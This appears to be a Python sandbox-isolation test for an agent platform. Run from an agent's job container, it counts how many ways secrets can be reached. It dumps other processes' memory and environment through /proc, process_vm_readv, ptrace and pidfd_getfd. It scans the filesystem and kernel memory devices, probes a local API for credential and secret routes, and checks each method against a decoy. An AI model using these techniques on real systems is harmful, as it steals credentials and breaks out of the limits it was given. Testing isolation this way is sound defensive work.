"""Runs as an agent's command in a job's container: tries every way to a secret and writes what it found.

It has nothing but Python. `found.json` in the workspace gets, for each way, how often it was tried and
opened, and every secret that came out. A process of its own with a decoy shows that the ways work at all.
"""

# ruff: noqa: PTH113, PTH114, PTH118, PTH123, PTH208 -- the least that a bare interpreter needs

from __future__ import annotations

import ctypes
import http.client
import json
import os
import re
import socket
import subprocess
import sys
from collections import Counter

LOOT = re.compile(
    rb"eyJhbGciOiJFZERTQSI[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.|ungr[a]nted-[0-9a-f]{16}|dec[o]y-[0-9a-f]{8}"
)
JOB = os.environ.get("HUNTER_JOB", "")
DECOY = f"dec{'o'}y-{os.getpid():08x}"
CHUNK = 1 << 20
SKIPPED = {"/proc", "/sys"}
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PROCESS_VM_READV, PIDFD_OPEN, PIDFD_GETFD = 310, 434, 438

libc = ctypes.CDLL(None, use_errno=True)
tried: Counter[str] = Counter()
opened: Counter[str] = Counter()
found: dict[str, set[str]] = {}


def take(way: str, data: bytes) -> None:
    for match in LOOT.finditer(data):
        found.setdefault(way, set()).add(match.group()[:40].decode())


def read(way: str, path: str, limit: int = 64 * CHUNK) -> None:
    tried[way] += 1
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return
    opened[way] += 1
    rest = b""
    try:
        while limit > 0 and (data := os.read(descriptor, CHUNK)):
            take(way, rest + data)
            rest, limit = data[-400:], limit - len(data)
    except OSError:
        pass
    finally:
        os.close(descriptor)


def read_memory(way: str, pid: int, *, reader: str) -> None:
    """All of a process's memory, through its mem file or by the system call."""
    tried[way] += 1
    try:
        with open(f"/proc/{pid}/maps") as maps:
            spans = [line.split()[0].split("-") for line in maps if " r" in line and "[v" not in line]
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY) if reader == "mem" else -1
    except OSError:
        return
    for low, high in ((int(a, 16), int(b, 16)) for a, b in spans):
        size = min(high - low, 256 * CHUNK)
        try:
            data = os.pread(memory, size, low) if memory >= 0 else by_call(pid, low, size)
        except (OSError, OverflowError):
            continue
        if data:
            opened[way] += 1
            take(way, data)
    if memory >= 0:
        os.close(memory)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def by_call(pid: int, address: int, size: int) -> bytes:
    buffer = ctypes.create_string_buffer(size)
    mine, theirs = Span(ctypes.addressof(buffer), size), Span(address, size)
    got = libc.syscall(PROCESS_VM_READV, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw[:got] if got > 0 else b""


def attach(way: str, pid: int) -> None:
    tried[way] += 1
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        opened[way] += 1
        os.waitpid(pid, 0x40000000)
        libc.ptrace(PTRACE_DETACH, pid, None, None)


def steal_descriptors(way: str, pid: int) -> None:
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    for number in range(16):
        tried[way] += 1
        if handle >= 0 and libc.syscall(PIDFD_GETFD, handle, number, 0) >= 0:
            opened[way] += 1


def everything_of(pid: int, name: str) -> None:
    """All that /proc has of a process, its threads included."""
    base = f"/proc/{pid}"
    for directory in (base, *(f"{base}/task/{one}" for one in listing(f"{base}/task"))):
        for entry in listing(directory):
            path = f"{directory}/{entry}"
            if entry in {"fd", "fdinfo", "map_files"}:
                tried[f"{name} {entry}"] += 1
                for one in listing(path):
                    opened[f"{name} {entry}"] += 1
                    read(f"{name} {entry} content", f"{path}/{one}", CHUNK)
            elif entry not in {"mem", "task", "root", "cwd", "pagemap"}:
                read(f"{name} {entry}", path, CHUNK)
    read_memory(f"{name} mem", pid, reader="mem")
    read_memory(f"{name} process_vm_readv", pid, reader="call")
    attach(f"{name} ptrace", pid)
    steal_descriptors(f"{name} pidfd_getfd", pid)


def listing(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


def files() -> None:
    for directory, names, entries in os.walk("/"):
        names[:] = [one for one in names if os.path.join(directory, one) not in SKIPPED]
        if directory.startswith(("/usr", "/lib", "/workspace/.git")):
            continue
        for entry in entries:
            path = os.path.join(directory, entry)
            if os.path.isfile(path) and not os.path.islink(path):
                read("files", path, CHUNK)


def ask(method: str, path: str) -> int:
    connection = http.client.HTTPConnection("localhost")
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.connect("/run/portside/s")
    connection.request(method, path, body="{}" if method != "GET" else None)
    status = connection.getresponse().status
    connection.close()
    return status


def worker_pid() -> int:
    for one in listing("/proc"):
        if one.isdigit():
            with open(f"/proc/{one}/cmdline", "rb") as file:
                first, *rest = file.read().split(b"\0")[:-1] or [b""]
            if b"python" in first and rest[-2:] == [b"-m", b"worker"]:
                return int(one)
    raise LookupError("worker")


def main() -> None:
    worker = worker_pid()
    decoy = subprocess.Popen(
        [sys.executable, "-c", "import sys, os; print(flush=True); sys.stdin.read()"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        env={"DECOY": DECOY},
    )
    assert decoy.stdout is not None
    decoy.stdout.readline()
    everything_of(decoy.pid, "decoy")
    decoy.kill()
    decoy.wait()
    everything_of(worker, "worker")
    for one in sorted(int(pid) for pid in listing("/proc") if pid.isdigit()):
        for kind in ("environ", "cmdline"):
            read(f"others {kind}", f"/proc/{one}/{kind}", CHUNK)
        if one not in {worker, os.getpid()}:
            read_memory("others mem", one, reader="mem")
    with open(f"/proc/{worker}/limits") as limits:
        core = next(line.split()[4:6] for line in limits if line.startswith("Max core"))
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/kmsg", "/run/portside/token"):
        read("kernel and token file", path, CHUNK)
    files()
    routes = [
        *(("GET", f"/worker/{JOB}/{name}") for name in ("job", "credentials", "tools/catalog")),
        *(("POST", f"/worker/{JOB}/{name}") for name in ("token/renew", "llm/complete", "tools/execute")),
        *(("GET", f"/api/v1/{name}") for name in ("secrets", "jobs")),
    ]
    answer = {
        "tried": tried,
        "opened": opened,
        "found": {way: sorted(loot) for way, loot in found.items()},
        "core": core,
        "descriptors": sorted(listing("/proc/self/fd"))[:3],
        "run": listing("/run/portside"),
        "routes": [ask(*route) for route in routes],
        "environment": sorted(os.environ),
    }
    with open("found.json", "w") as file:
        json.dump(answer, file)


main()
